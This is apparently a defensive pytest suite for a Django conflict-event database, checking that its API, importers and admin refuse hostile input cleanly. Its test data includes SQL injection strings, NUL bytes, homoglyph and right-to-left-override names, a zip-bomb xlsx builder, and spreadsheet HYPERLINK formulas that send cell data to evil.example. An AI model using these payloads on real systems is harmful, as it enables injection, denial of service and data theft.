"""Hostile input: every case is refused with a clear 4xx naming the parameter or field, or a row error
naming the column — never a 500 — and leaves the database as it was (docs/security.md).

CASES is the table: where the input goes (API query string, JSON body, import file), what it is, the
answer expected and the name that answer must carry. Each case runs against the same small world
(a published event and a draft) and compares row counts of every table before and after.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from rest_framework.authtoken.models import Token

from actors.models import Actor, ActorRelation
from core.textcheck import name_problem
from core.vocab import ActorRole, InterCode
from events.importers.acled import import_acled_file
from events.importers.common import HeaderError
from events.importers.ucdp import import_ucdp_file
from events.models import Citation, Event, EventActor, ExportJob, ImportBatch, Source, Tombstone
from events.services import event_create, event_publish
from places.models import Place, PlaceKind
from tests.acled_files import ACLED_COLUMNS, current_row, write_csv

TEN_MB = 10 * 1024 * 1024
NUL = "\x00"
SQL_OR = "' OR 1=1 --"
SQL_DROP = "1; DROP TABLE events_event"
RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "Army\u202eyrotcaF" displays as "ArmyFactory"
HOMOGLYPH = "Isl\u0430mic State"  # a Cyrillic а among Latin letters: looks like "Islamic State"
MAX_ERROR_BYTES = 64 * 1024  # no answer echoes a 10 MB value back


@dataclass
class Outcome:
    """What came back: an HTTP status, or for the importer "row error" / "file refused"."""

    status: int | str
    text: str
    size: int = 0


@dataclass
class World:
    published: Event
    draft: Event
    place: Place
    actor: Actor
    curator: Client
    curator_session: Client
    anonymous: Client
    tmp: Path


@pytest.fixture
def world(db, curator, reviewer, tmp_path, settings) -> World:
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.IMPORT_MAX_UPLOAD_BYTES = IMPORT_LIMIT
    settings.CELERY_BROKER_URL = None
    syria = Place.objects.create(
        name="Syria", kind=PlaceKind.COUNTRY, country_code="SYR", latitude=35.0, longitude=38.5
    )
    palmyra = Place.objects.create(
        name="Palmyra", kind=PlaceKind.LOCALITY, parent=syria, latitude=34.5, longitude=38.3
    )
    actor = Actor.objects.create(name="Islamic State", kind=InterCode.REBEL_GROUP, country="SYR")
    source = Source.objects.create(name="Syrian Observatory")

    def make(event_id: str, notes: str) -> Event:
        return event_create(
            event_id=event_id,
            event_date="2015-05-20",
            event_type="Battles",
            sub_event_type="Armed clash",
            place=palmyra,
            notes=notes,
            actors=[(actor, ActorRole.ACTOR1)],
            citations=[{"source": source, "quote": "Fighting was reported."}],
        )

    published = event_publish(event=make("SYR1001", "Clashes near the citadel."), by=reviewer)
    draft = make("SYR2002", "A draft nobody outside may read.")
    token = Token.objects.create(user=curator)
    session = Client()
    session.force_login(curator)
    return World(
        published=published,
        draft=draft,
        place=palmyra,
        actor=actor,
        curator=Client(HTTP_AUTHORIZATION=f"Token {token.key}"),
        curator_session=session,
        anonymous=Client(),
        tmp=tmp_path,
    )


def snapshot() -> dict[str, int]:
    models = [Event, EventActor, Citation, Actor, ActorRelation, Place, Source, Tombstone, Token, ExportJob]
    counts = {model.__name__: model.objects.count() for model in models}
    counts["users"] = get_user_model().objects.count()
    counts["event history"] = Event.history.count()
    counts["actor history"] = Actor.history.count()
    return counts


def answered(response) -> Outcome:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return Outcome(response.status_code, content[:MAX_ERROR_BYTES].decode(errors="replace"), len(content))


# --- senders -----------------------------------------------------------------------------------


def get(path: str, **params):
    """An anonymous GET (a query string built from params, or given whole after '?')."""
    return lambda w: answered(w.anonymous.get(path, params))


def get_raw(path: str, query_string: str):
    """A GET whose query string is sent byte for byte (invalid UTF-8 included)."""
    return lambda w: answered(w.anonymous.get(path, QUERY_STRING=query_string))


def valid_event(w: World, **changes) -> dict:
    return {
        "event_date": "2015-07-01",
        "event_type": "Battles",
        "sub_event_type": "Armed clash",
        "place": w.place.pk,
        **changes,
    }


def post_event(**changes):
    """A curator's POST /api/v1/events/ of a valid event with one member made hostile."""
    return lambda w: answered(
        w.curator.post(
            "/api/v1/events/", json.dumps(valid_event(w, **changes)), content_type="application/json"
        )
    )


def post_json(path: str, payload):
    def send(w: World) -> Outcome:
        body = payload if isinstance(payload, str | bytes) else json.dumps(payload)
        return answered(w.curator.post(path, body, content_type="application/json"))

    return send


def nested(depth: int) -> str:
    return '{"notes": ' + "[" * depth + "]" * depth + "}"


def import_rows(*rows: dict, columns=ACLED_COLUMNS):
    """import_acled of a CSV file holding these rows."""

    def send(w: World) -> Outcome:
        path = write_csv(w.tmp / "hostile.csv", columns, list(rows))
        return imported(path)

    return send


def import_bytes(data: bytes, name: str = "hostile.csv"):
    def send(w: World) -> Outcome:
        path = w.tmp / name
        path.write_bytes(data)
        return imported(path)

    return send


def imported(path: Path) -> Outcome:
    try:
        outcome = import_acled_file(path, progress=False)
    except HeaderError as exc:
        return Outcome("file refused", str(exc))
    if outcome.errors:
        return Outcome("row error", "\n".join(f"{e.column}: {e.reason}" for e in outcome.errors))
    return Outcome("imported", outcome.batch.state)


def ucdp_row(**overrides) -> dict:
    row = {
        "id": "1001",
        "date_start": "2015-11-10",
        "date_end": "2015-11-10",
        "type_of_violence": "1",
        "side_a": "Government of Syria",
        "side_b": "IS",
        "country": "Syria",
        "latitude": "34.56",
        "longitude": "38.28",
        "best": "4",
    }
    return {**row, **overrides}


def import_ucdp_rows(*rows: dict):
    def send(w: World) -> Outcome:
        path = write_csv(w.tmp / "hostile-ged.csv", list(rows[0]), list(rows))
        try:
            outcome = import_ucdp_file(path, progress=False)
        except HeaderError as exc:
            return Outcome("file refused", str(exc))
        if outcome.errors:
            return Outcome("row error", "\n".join(f"{e.column}: {e.reason}" for e in outcome.errors))
        return Outcome("imported", outcome.batch.state)

    return send


ADMIN_IMPORT = "/admin/events/event/import/"
ADMIN_HEADER = ["event_id", "event_date", "event_type", "sub_event_type", "fatalities", "place", "actor1",
                "sources", "notes"]  # fmt: skip
ADMIN_ROW = ["", "2015-11-10", "Battles", "Armed clash", "4", "Syria > Palmyra", "Islamic State",
             "Syrian Observatory", "Clashes near Palmyra."]  # fmt: skip


def admin_csv(**cells) -> bytes:
    row = [cells.get(name, value) for name, value in zip(ADMIN_HEADER, ADMIN_ROW, strict=True)]
    return csv_text(ADMIN_HEADER, [row])


def import_format_index(title: str) -> str:
    titles = [fmt().get_title() for fmt in django_settings.IMPORT_FORMATS if fmt().can_import()]
    return str(titles.index(title))


def admin_import(data: bytes, name: str = "events.csv", fmt: str = "csv", url: str = ADMIN_IMPORT):
    """A curator's upload to an admin import screen (its preview step)."""

    def send(w: World) -> Outcome:
        upload = SimpleUploadedFile(name, data)
        index = import_format_index(fmt) if fmt in ("csv", "tsv", "xlsx") else fmt
        response = w.curator_session.post(url, {"resource": "0", "format": index, "import_file": upload})
        if response.status_code != 200:
            return answered(response)
        form = response.context["form"]
        if form.errors:
            return Outcome("form error", " ".join(f"{k}: {' '.join(v)}" for k, v in form.errors.items()))
        batch = ImportBatch.objects.order_by("-pk").first()
        if batch and batch.errors:
            return Outcome("row error", "\n".join(f"{e['column']}: {e['reason']}" for e in batch.errors))
        return Outcome("previewed", response.content.decode()[:2000])

    return send


def bomb_to(url: str):
    return admin_import(BOMB, "bomb.xlsx", "xlsx", url)


def csv_text(header: list[str], rows: list[list[str]]) -> bytes:
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return text.getvalue().encode()


def xlsx_zip_bomb() -> bytes:
    """A 200 KB .xlsx whose one sheet inflates to 200 MB of XML (deflate packs it ~1000:1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/></Types>',
        )
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(b'<worksheet><sheetData><row r="1"><c t="inlineStr"><is><t>')
            block = b"A" * (1024 * 1024)
            for _ in range(200):
                sheet.write(block)
            sheet.write(b"</t></is></c></row></sheetData></worksheet>")
    return buffer.getvalue()


# --- the table ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str
    send: Callable[[World], Outcome]
    expect: int | str
    names: str  # the parameter, field or column the answer must name

    def __str__(self) -> str:
        return self.name


EVENTS, ACLED, EXPORT = "/api/v1/events/", "/api/acled/read", "/api/v1/exports/events.csv"
ACTORS, SOURCES, JOBS, TOKEN = (
    "/api/v1/actors/",
    "/api/v1/sources/",
    "/api/v1/exports/jobs/",
    "/api/v1/auth/token/",
)
ROW, FILE, FORM = "row error", "file refused", "form error"
IMPORT_LIMIT = 1_000_000  # IMPORT_MAX_UPLOAD_BYTES in these tests


def csv_with(**cells):
    """import_acled of one plausible ACLED row with some cells made hostile."""
    return import_rows(current_row(**cells))


def ged_with(**cells):
    return import_ucdp_rows(ucdp_row(**cells))


def param(name: str) -> str:
    return f'"parameter": "{name}"'


WIDE_HEADER = csv_text([f"c{n}" for n in range(10_000)], [["1"] * 10_000])
WIDE_ROW = csv_text(list(ACLED_COLUMNS), [list(current_row().values()) + ["x"] * 10_000])
BAD_UTF8 = csv_text(list(ACLED_COLUMNS), [["x"] * len(ACLED_COLUMNS)])[:-5] + b"\xff\xfe\xfa\n"
BIG = 99999999999999999999
BOMB = xlsx_zip_bomb()

# fmt: off
CASES = [
    # SQL fragments
    Case("sql in ?country", get(EVENTS, country=SQL_DROP), 400, "country"),
    Case("sql in ?actor", get(EVENTS, actor=SQL_OR), 400, "actor"),
    Case("sql in ?ordering", get(EVENTS, ordering="event_date; DROP TABLE events_event"), 400, "ordering"),
    Case("sql in ?fields", get(EVENTS, fields="event_id,notes) FROM auth_user --"), 400, "fields"),
    Case("sql in ?year", get(EVENTS, year=SQL_DROP), 400, "year"),
    Case("sql in acled ?event_date", get(ACLED, event_date=SQL_OR), 400, "event_date"),
    Case("sql in a json date", post_event(event_date=SQL_DROP), 400, "event_date"),
    Case("sql in a csv date", csv_with(event_date=SQL_DROP), ROW, "event_date"),
    Case("sql in a csv count", csv_with(fatalities="0 OR 1=1"), ROW, "fatalities"),
    # 10 MB strings
    Case("10 MB ?q", get(EVENTS, q="a" * TEN_MB), 414, param("q")),
    Case("10 MB ?country", get(EVENTS, country="S" * TEN_MB), 414, param("country")),
    Case("10 MB acled ?country", get(ACLED, country="S" * TEN_MB), 414, param("country")),
    Case("10 MB export ?actor", get(EXPORT, actor="S" * TEN_MB), 414, param("actor")),
    Case("10 MB json notes", post_event(notes="a" * TEN_MB), 413, "too large"),
    Case("10 MB token username", post_json(TOKEN, {"username": "a" * TEN_MB, "password": "x"}), 413,
         "too large"),
    # NUL bytes
    Case("NUL in ?q", get(EVENTS, q=f"citadel{NUL}"), 400, "q"),
    Case("NUL in ?actor", get(EVENTS, actor=f"Islamic{NUL}State"), 400, "actor"),
    Case("NUL in export ?q", get(EXPORT, q=f"citadel{NUL}"), 400, "q"),
    Case("NUL in acled ?actor1", get(ACLED, actor1=f"Islamic{NUL}"), 400, "actor1"),
    Case("NUL in json notes", post_event(notes=f"bad{NUL}notes"), 400, "notes"),
    Case("NUL in json actor name", post_json(ACTORS, {"name": f"A{NUL}B", "kind": 2}), 400, "name"),
    Case("NUL in export job filters", post_json(JOBS, {"format": "csv", "filters": {"q": NUL}}), 400, "q"),
    Case("NUL in a csv cell", csv_with(notes=f"bad{NUL}notes"), ROW, "notes"),
    Case("NUL in a csv event id", csv_with(event_id_cnty=f"SYR{NUL}9"), ROW, "event_id_cnty"),
    Case("NUL in a UCDP csv cell", ged_with(side_a=f"Government{NUL}"), ROW, "side_a"),
    # Invalid UTF-8
    Case("invalid UTF-8 in ?country", get_raw(EVENTS, "country=%FF%FE%FD"), 400, "country"),
    # ACLED's country is a text filter: "\ufffd(" matches nothing.
    Case("invalid UTF-8 in acled ?country", get_raw(ACLED, "country=%C3%28"), 200, '"count":0'),
    Case("invalid UTF-8 in a csv upload", import_bytes(BAD_UTF8), FILE, "UTF-8"),
    # Impossible dates
    Case("?date_after=0000-00-00", get(EVENTS, date_after="0000-00-00"), 400, "date_after"),
    Case("?date_before=2015-02-30", get(EVENTS, date_before="2015-02-30"), 400, "date_before"),
    Case("?date_after=99999-01-01", get(EVENTS, date_after="99999-01-01"), 400, "date_after"),
    Case("?updated_since=0000-00-00", get(EVENTS, updated_since="0000-00-00T00:00Z"), 400, "updated_since"),
    Case("export ?date_before=2015-02-30", get(EXPORT, date_before="2015-02-30"), 400, "date_before"),
    Case("acled ?event_date=0000-00-00", get(ACLED, event_date="0000-00-00"), 400, "event_date"),
    Case("json event_date 0000-00-00", post_event(event_date="0000-00-00"), 400, "event_date"),
    Case("json event_date 2015-02-30", post_event(event_date="2015-02-30"), 400, "event_date"),
    Case("json event_date 99999-01-01", post_event(event_date="99999-01-01"), 400, "event_date"),
    Case("csv event_date 0000-00-00", csv_with(event_date="0000-00-00"), ROW, "event_date"),
    Case("csv event_date 2015-02-30", csv_with(event_date="2015-02-30"), ROW, "event_date"),
    Case("csv event_date 99999-01-01", csv_with(event_date="99999-01-01"), ROW, "event_date"),
    # Huge integers
    Case("?fatalities_min=1e400", get(EVENTS, fatalities_min="1e400"), 400, "fatalities_min"),
    Case("?fatalities_max=99999999999999999999", get(EVENTS, fatalities_max=str(BIG)), 400, "fatalities_max"),
    Case("?page=10**30", get(EVENTS, page=str(10**30)), 400, "page"),
    Case("?page_size=-1", get(EVENTS, page_size="-1"), 400, "page_size"),
    Case("?place=10**30", get(EVENTS, place=str(10**30)), 400, "place"),
    Case("acled ?limit=-1", get(ACLED, limit="-1"), 400, "limit"),
    Case("acled ?page=10**30", get(ACLED, page=str(10**30)), 400, "page"),
    Case("acled ?fatalities=1e400", get(ACLED, fatalities="1e400"), 400, "fatalities"),
    Case("json fatalities 1e400", post_json(EVENTS, '{"event_date": "2015-07-01", "fatalities": 1e400}'), 400,
         "fatalities"),
    Case("json fatalities 99999999999999999999", post_event(fatalities=BIG), 400, "fatalities"),
    Case("json place 10**30", post_event(place=10**30), 400, "place"),
    Case("csv fatalities 99999999999999999999", csv_with(fatalities=str(BIG)), ROW, "fatalities"),
    Case("csv fatalities 1e400", csv_with(fatalities="1e400"), ROW, "fatalities"),
    Case("csv latitude 1e400", csv_with(latitude="1e400"), ROW, "latitude"),
    Case("csv timestamp 10**30", csv_with(timestamp=str(10**30)), ROW, "timestamp"),
    Case("UCDP csv best 99999999999999999999", ged_with(best=str(BIG)), ROW, "best"),
    # Deeply nested JSON, wrong shapes
    Case("json nested 10,000 deep", post_json(EVENTS, nested(10_000)), 400, "JSON"),
    Case("json nested 10,000 deep to the token endpoint", post_json(TOKEN, nested(10_000)), 400, "JSON"),
    Case("json notes as an object", post_event(notes={"$gt": ""}), 400, "notes"),
    Case("json not json", post_json(EVENTS, b"{'event_date': "), 400, "JSON"),
    # Wide files
    Case("csv with 10,000 columns", import_bytes(WIDE_HEADER), FILE, "required column"),
    Case("csv row with 10,000 fields", import_bytes(WIDE_ROW), ROW, "fields"),
    # Look-alike and direction-changing characters in names
    Case("RTL override in an actor name", post_json(ACTORS, {"name": f"Army{RLO}yrotcaF", "kind": 2}), 400,
         "name"),
    Case("homoglyph actor name", post_json(ACTORS, {"name": HOMOGLYPH, "kind": 2}), 400, "name"),
    Case("RTL override in a source name", post_json(SOURCES, {"name": f"Reuters{RLO}"}), 400, "name"),
    Case("RTL override in a csv actor", csv_with(actor1=f"Army{RLO}yrotcaF"), ROW, "actor1"),
    Case("homoglyph in a csv actor", csv_with(actor2=HOMOGLYPH), ROW, "actor2"),
    # Zip bombs and other non-CSV files where a CSV is expected
    Case("xlsx zip bomb to import_acled", import_bytes(BOMB, "bomb.xlsx"), FILE, "UTF-8"),
    # The admin's import screen
    Case("admin import: xlsx zip bomb", admin_import(BOMB, "bomb.xlsx", "xlsx"), FORM, "unpacks to"),
    Case("admin actor import: xlsx zip bomb", bomb_to("/admin/actors/actor/import/"), FORM, "unpacks to"),
    Case("admin place import: xlsx zip bomb", bomb_to("/admin/places/place/import/"), FORM, "unpacks to"),
    Case("admin source import: xlsx zip bomb", bomb_to("/admin/events/source/import/"), FORM, "unpacks to"),
    Case("admin import: xlsx that is not a zip", admin_import(b"PK\x03\x04garbage", "bad.xlsx", "xlsx"), FORM,
         "not a valid zip"),
    Case("admin import: upload over IMPORT_MAX_UPLOAD_BYTES", admin_import(b"x" * (IMPORT_LIMIT + 1)), FORM,
         "at most"),
    Case("admin import: yaml is not offered", admin_import(b"a: &a [1]", "bomb.yaml", "3"), FORM, "format"),
    Case("admin import: NUL in a csv cell", admin_import(admin_csv(notes=f"bad{NUL}notes")), FORM, "Line 2"),
    Case("admin import: invalid UTF-8", admin_import(admin_csv()[:-3] + b"\xff\xfe\n"), FORM, "import_file"),
    Case("admin import: 10,000 columns", admin_import(WIDE_HEADER), ROW, "event_id"),
    Case("admin import: date 2015-02-30", admin_import(admin_csv(event_date="2015-02-30")), ROW,
         "event_date"),
    Case("admin import: fatalities 99999999999999999999", admin_import(admin_csv(fatalities=str(BIG))), ROW,
         "fatalities"),
    Case("admin import: homoglyph actor", admin_import(admin_csv(actor1=HOMOGLYPH)), ROW, "actor1"),
]
# fmt: on


def test_the_table_holds_at_least_thirty_hostile_inputs():
    assert len(CASES) >= 30
    assert len({case.name for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=str)
def test_hostile_input_is_refused_cleanly(world, case):
    before = snapshot()
    outcome = case.send(world)
    assert outcome.status == case.expect, outcome.text[:2000]
    assert case.names in outcome.text, outcome.text[:2000]
    assert outcome.size <= MAX_ERROR_BYTES, f"{outcome.size} bytes in the answer"
    assert snapshot() == before


# --- accepted, but harmless ---------------------------------------------------------------------


def test_sql_in_a_full_text_search_is_a_search_for_those_words(world):
    before = snapshot()
    response = world.anonymous.get(EVENTS, {"q": SQL_OR})
    assert response.status_code == 200
    assert response.json()["count"] == 0  # not every event, and no draft
    response = world.anonymous.get(EVENTS, {"q": "citadel' OR '1'='1"})
    assert response.status_code == 200
    assert [row["event_id"] for row in response.json()["results"]] in ([], ["SYR1001"])
    assert snapshot() == before
    assert Event.objects.filter(event_id="SYR2002").exists()


def test_a_formula_in_notes_is_stored_as_text_and_escaped_in_csv_and_xlsx_exports(world, reviewer):
    import openpyxl

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    response = world.curator.post(
        EVENTS,
        json.dumps(
            valid_event(
                world,
                notes=formula,
                actors=[{"actor": Actor.objects.get().pk, "role": "actor1"}],
                citations=[{"source": Source.objects.get().pk}],
            )
        ),
        content_type="application/json",
    )
    assert response.status_code == 201, response.content
    event = Event.objects.get(event_id=response.json()["event_id"])
    assert event.notes == formula
    event_publish(event=event, by=reviewer)

    for fmt, column in (("csv", "notes"), ("acled.csv", "notes")):
        data = b"".join(world.anonymous.get(f"/api/v1/exports/events.{fmt}").streaming_content).decode()
        rows = list(csv.DictReader(io.StringIO(data)))
        notes = {row[column] for row in rows}
        assert "'" + formula in notes and formula not in notes

    response = world.anonymous.get("/api/v1/exports/events.xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook["Events"]
    header = [cell.value for cell in sheet[1]]
    cells = [row[header.index("notes")] for row in sheet.iter_rows(min_row=2)]
    texts = {cell.value for cell in cells}
    assert all(cell.data_type == "s" for cell in cells)  # strings, never formulas
    assert formula in texts or "'" + formula in texts


def test_a_homoglyph_name_never_matches_the_real_actor(world):
    """Filters match names exactly: a look-alike finds nothing, it does not find Islamic State."""
    response = world.anonymous.get(EVENTS, {"actor": HOMOGLYPH})
    assert response.status_code == 400
    assert response.json()["errors"][0]["parameter"] == "actor"


def test_the_rtl_override_character_is_refused_in_the_admin_too(world, curator):
    client = Client()
    client.force_login(curator)
    response = client.post(
        "/admin/actors/actor/add/", {"name": f"Army{RLO}yrotcaF", "kind": "2", "aliases": "[]"}
    )
    assert response.status_code == 200
    assert "invisible or direction-changing" in response.content.decode()
    assert not Actor.objects.filter(name__startswith="Army").exists()


FORMULA = '=HYPERLINK("http://evil.example/","Click")'


def test_the_admin_imports_error_report_escapes_formulas_from_the_file(world, superuser):
    outcome = admin_import(admin_csv(actor1=FORMULA))(world)
    assert outcome.status == ROW
    batch = ImportBatch.objects.order_by("-pk").first()
    client = Client()
    client.force_login(superuser)
    report = client.get(f"/admin/events/importbatch/{batch.pk}/errors.csv").content.decode()
    cells = {cell for row in csv.reader(io.StringIO(report)) for cell in row}
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    assert "'" + FORMULA in cells


def test_import_acleds_error_report_escapes_formulas_from_the_file(world, tmp_path):
    from django.core.management import call_command

    path = write_csv(tmp_path / "formula.csv", ACLED_COLUMNS, [current_row(event_date=FORMULA)])
    report = tmp_path / "errors.csv"
    call_command("import_acled", str(path), "--errors-out", str(report), "--no-progress")
    cells = {cell for row in csv.reader(report.open()) for cell in row}
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    assert "'" + FORMULA in cells


@pytest.mark.parametrize(
    "name",
    [
        "Islamic State (Syria)",
        "Al-Shabaab",
        "Forces Armées de la République Démocratique du Congo",
        "الدولة الإسلامية",
        "Вооружённые силы Украины",
        "Ελληνική Αστυνομία",
        "سپاه\u200cپاسداران",  # Persian with a zero-width non-joiner, as it is written
        "Police Forces of Kenya (2013-2022)",
    ],
)
def test_real_names_in_one_script_pass_the_name_check(name):
    assert name_problem(name) is None


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        (HOMOGLYPH, "mixes Cyrillic and Latin"),
        ("Αrmy", "mixes Greek and Latin"),  # a Greek capital alpha
        (f"Army{RLO}yrotcaF", "RIGHT-TO-LEFT OVERRIDE"),
        ("Isla\u200bmic State", "ZERO WIDTH SPACE"),
        ("\u2066Reuters\u2069", "LEFT-TO-RIGHT ISOLATE"),
        (f"A{NUL}B", "NUL"),
    ],
)
def test_look_alike_and_hidden_characters_are_named_by_the_name_check(name, reason):
    assert reason in name_problem(name)
